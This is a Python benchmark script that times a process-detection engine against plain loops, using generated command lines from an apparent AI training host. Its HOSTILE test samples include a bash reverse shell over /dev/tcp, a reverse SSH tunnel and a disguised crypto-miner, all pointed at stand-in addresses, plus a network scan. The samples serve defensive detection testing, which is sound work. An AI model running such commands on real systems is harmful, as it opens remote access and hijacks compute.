"""How many process facts a second one core examines, beside plain loops over the same facts.

    python -m benchmarks.detection_speed [--facts N]

Ordinary processes of a training host, every one different, none of which a rule holds for; then the same with
one hostile process in a hundred; then tool-call texts. Processor time of this process alone is counted.
"""

import argparse
import json
import shlex
import time
from collections.abc import Callable
from typing import Any

from apps.detection.engine import examine, examine_many
from apps.detection.facts import CommandFact, ProcessFact

# An ordinary minute on a training host: what the trainer, its shells, probes and an agent's tools start.
ORDINARY = (
    "python3 -u train.py --config configs/run_{n}.yaml --lr 1e-5 --gpus 8 --seed {n}",
    "/opt/venv/bin/python3.11 -m vllm.entrypoints.openai.api_server --model Qwen/Qwen3-8B --port 8{n}",
    "python -c 'from multiprocessing.spawn import spawn_main; spawn_main(fd={n})' --multiprocessing-fork",
    "ray::RolloutWorker.generate --worker-id {n}",
    "nvidia-smi --query-gpu=utilization.gpu,memory.used --format=csv,noheader -i {n}",
    "bash -c 'cd /workspace/task_{n} && pytest -q tests/test_main.py 2>&1 | tail -20'",
    "/bin/sh -c 'git status --short | head -{n}'",
    "git -C /workspace/repo_{n} diff --stat",
    "ls -la /data/shards/{n}",
    "cat /workspace/task_{n}/README.md",
    "sed -n 1,{n}p src/model.py",
    "grep -rn 'def forward_{n}' src",
    "pytest -x -q tests/unit/test_{n}.py",
    "sleep {n}",
    "tar -xzf /data/shards/shard-{n}.tar.gz -C /scratch/{n}",
    "gcc -O2 -c kernel_{n}.c -o kernel_{n}.o -I/usr/include",
    "/usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet kernel_{n}.c -o /scratch/cc{n}.s",
    "node /workspace/app_{n}/server.js",
    "runc --root /var/run/docker/runtime-runc/moby --log /run/containerd/{n}/log.json state {n}",
    "ps -o pid,ppid,args -p {n}",
)
HOSTILE = (
    "ssh -fNR 22{n}:localhost:22 svc@203.0.113.47 -p 443",
    "./python3 -a kawpow -o stratum+tcp://198.51.100.7:{n} -u wallet.w",
    "bash -c 'bash -i >& /dev/tcp/203.0.113.9/{n} 0>&1'",
    "nmap -p 1-{n} 10.0.0.0/24",
)
TEXTS = (
    "cd /workspace/task_{n} && python -m pytest -q 2>&1 | tail -20",
    "cat > solution_{n}.py <<'EOF'\nimport sys\nprint(sum(map(int, sys.stdin)))\nEOF\npython s{n}.py < in",
    "for f in src/*.py; do ruff check $f; done; git add -A && git commit -m 'step {n}'",
    "grep -rn 'TODO {n}' --include='*.py' . | head",
)


def facts(templates: tuple[str, ...], count: int, start: int = 0) -> list[ProcessFact]:
    """`count` process facts, different from each other and from those of another start."""
    made, words = [], [shlex.split(template) for template in templates]
    for n in range(start, start + count):
        argv = tuple(word.replace("{n}", str(n)) for word in words[n % len(words)])
        exe = argv[0] if argv[0].startswith("/") else "/usr/bin/" + argv[0]
        made.append(
            ProcessFact(
                argv,
                exe,
                "/workspace",
                "/sentinel/run-7",
                "run",
                marker="run-7",
                run_cgroup="/sentinel/run-7",
            )
        )
    return made


def rate(work: Callable[[list[Any]], object], batches: list[list[Any]]) -> float:
    """Items a second: the best of the batches, each new to the code under test, in processor time."""
    best, count = float("inf"), len(batches[0])
    for batch in batches:
        start = time.process_time()
        work(batch)
        best = min(best, time.process_time() - start)
    return count / best


def trivial(items: list[ProcessFact]) -> int:
    """The least anyone could do: join the arguments and look for one word."""
    return sum("xmrig" in " ".join(item.argv) for item in items)


def main() -> None:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--facts", type=int, default=40_000)
    count = parser.parse_args().facts
    rounds = range(0, 4 * count, count)
    ordinary = [facts(ORDINARY, count, start) for start in rounds]
    hostile = [facts(HOSTILE, max(count // 100, 1), start + 1) for start in rounds]
    mixed = [batch[len(bad) :] + bad for batch, bad in zip(ordinary, hostile, strict=True)]
    encoded = [
        [json.dumps({"argv": f.argv, "exe": f.exe, "cwd": f.cwd}) for f in batch] for batch in ordinary
    ]
    texts = [
        [
            CommandFact(TEXTS[n % len(TEXTS)].replace("{n}", str(n)), "bash")
            for n in range(start, start + count // 10)
        ]
        for start in rounds
    ]
    plain = rate(trivial, ordinary)
    decoded = rate(lambda batch: [json.loads(line) for line in batch], encoded)
    rows = [
        ("join the arguments and look for one word", plain),
        ("decode the same facts from JSON", decoded),
        ("examine_many, ordinary processes", rate(examine_many, ordinary)),
        ("examine_many, one hostile in a hundred", rate(examine_many, mixed)),
        ("examine, tool-call texts", rate(lambda batch: [examine(text) for text in batch], texts)),
    ]
    assert not examine_many(ordinary[0]), "an ordinary process raised a finding"
    assert len({index for index, _ in examine_many(hostile[0])}) == len(hostile[0]), (
        "a hostile process was missed"
    )
    print("| work | items a second, one core | beside JSON decoding |\n|---|---|---|")
    for name, speed in rows:
        print(f"| {name} | {speed:,.0f} | {speed / decoded:.2f} |")


if __name__ == "__main__":
    main()
